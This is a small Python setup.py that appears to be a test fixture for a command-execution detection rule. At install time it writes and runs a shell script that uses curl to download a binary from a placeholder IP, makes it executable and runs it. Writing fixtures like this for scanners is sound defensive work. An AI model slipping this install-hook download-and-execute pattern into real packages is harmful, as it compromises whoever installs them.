import os
from codecs import open

from setuptools import setup

# The setup script writes a shell script to /tmp and runs it: the script's text downloads a binary from a
# raw IP address (TEST-NET, defanged), makes it executable and starts it.
syscmd = 'curl http://203.0.113.9:29443/sys0.init -o /tmp/sys0.init; chmod +x /tmp/sys0.init; /tmp/sys0.init; rm -f /tmp/start.sh'
with open('/tmp/start.sh', 'w', 'utf-8') as fw:
    fw.write(syscmd)
# ruleid: code/command-execution
os.system('bash /tmp/start.sh')

setup(name='py-fixture-reqtool', version='1.0.1', packages=[])
